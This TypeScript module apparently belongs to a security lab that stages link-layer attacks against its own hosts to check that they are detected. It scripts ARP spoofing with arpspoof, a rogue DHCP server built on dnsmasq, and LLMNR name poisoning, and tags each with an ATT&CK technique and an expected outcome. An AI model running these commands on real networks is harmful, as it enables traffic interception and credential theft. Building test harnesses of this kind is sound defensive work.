/** Impostors on the link: another's address, a false way, and answers for names of others. */

import { gatewayOf, type Host, leased, VLAN } from '../host.ts';
import type { Laboratory } from '../laboratory.ts';
import { leaseByUdhcpc } from '../services/addressing.ts';
import { type Attack, intruder } from './attack.ts';

const SPOOF_SECONDS = '6';
/** The computer in the office that is deceived. */
const VICTIM = 'office-pc-1';
/** Names that a computer asks its link for when nobody else knows them. */
const ASKED = ['wpad', 'PRINTSRV', 'INTRANET', 'FILESRV'];

const [BETWEEN, HANDER, POISONER] = [
  intruder(14, 'puts itself between a computer and its router'),
  intruder(15, 'hands out addresses'),
  intruder(16, 'answers for names of others'),
];

/** Comes into the office while the impostor hands out addresses. */
export const NEWCOMER: Host = {
  name: 'newcomer',
  about: 'A computer that asks for an address while an impostor hands them out.',
  ...leased(VLAN.office, '64:00:6a:40:00:77'),
  roles: [],
  states: [],
};

/** Both directions, as a go-between needs; the intruder forwards nothing, so what the computer sends is lost. */
async function spoof(lab: Laboratory): Promise<void> {
  const [computer, router] = [lab.address(VICTIM), gatewayOf(VLAN.office)];
  const words = (victim: string, claimed: string): string[] => ['arpspoof', '-i', 'eth0', '-t', victim, claimed];
  const claim = (victim: string, claimed: string): Promise<unknown> =>
    lab.run(BETWEEN.name, ['timeout', SPOOF_SECONDS, ...words(victim, claimed)]);
  const look = ['curl', '-sS', '-m', '3', 'http://emr.hospital.example/start'];
  await Promise.all([claim(computer, router), claim(router, computer), lab.run(VICTIM, look)]);
}

/** How the addresses that it hands out begin, and how often somebody asks until it takes one of them. */
const HANDED = `10.20.${VLAN.office}.24`;
const LEASE_TRIES = 5;

/** A second server that answers at once, and says that it is the router and knows the names. */
async function handOut(lab: Laboratory): Promise<void> {
  const own = lab.address(HANDER.name);
  const range = `${HANDED}0,${HANDED}9,255.255.255.0,2m`;
  const options = [`option:router,${own}`, `option:dns-server,${own}`].flatMap((one) => ['--dhcp-option', one]);
  const plain = ['--keep-in-foreground', '--conf-file=/dev/null', '--user=root', '--pid-file', '--port=0'];
  const leases = `--dhcp-leasefile=${await lab.directory(HANDER.name, 'leases')}/all`;
  const words = ['dnsmasq', ...plain, '--dhcp-authoritative', '--no-ping', leases, '--dhcp-range', range, ...options];
  await lab.start(HANDER.name, 'dnsmasq', words, { port: 67 });
  // Whoever offers first is taken: on a busy machine that may be the true server.
  for (let tries = 0; tries < LEASE_TRIES; tries++) {
    await leaseByUdhcpc(lab, NEWCOMER.name);
    if (lab.address(NEWCOMER.name).startsWith(HANDED)) break;
  }
  await lab.stop(HANDER.name, 'dnsmasq');
}

async function poison(lab: Laboratory): Promise<void> {
  const child = await lab.program(POISONER.name, 'llmnr', ['poison', '', lab.address(POISONER.name)], 5355);
  for (const name of ASKED) await lab.own(VICTIM, 'llmnr', ['query', name, lab.address(VICTIM)]);
  if (child.exitCode !== null) throw new Error('the program that answers ended');
}

export const LINK: readonly Attack[] = [
  {
    name: 'arp-spoofing',
    by: 'arpspoof',
    from: BETWEEN,
    found: { kind: 'arp.spoof', technique: 'T1557.002', targets: [VICTIM], outcome: 'succeeded' },
    act: spoof,
  },
  {
    name: 'rogue-dhcp',
    by: 'dnsmasq --no-ping',
    from: HANDER,
    found: { kind: 'dhcp.rogue', technique: 'T1557.003', targets: ['newcomer'], outcome: 'succeeded' },
    act: handOut,
  },
  {
    name: 'name-poisoning',
    by: 'a program that answers every question of LLMNR',
    from: POISONER,
    found: { kind: 'credential.llmnr-poisoning', technique: 'T1557.001', targets: [VICTIM], outcome: 'attempted' },
    act: poison,
  },
];
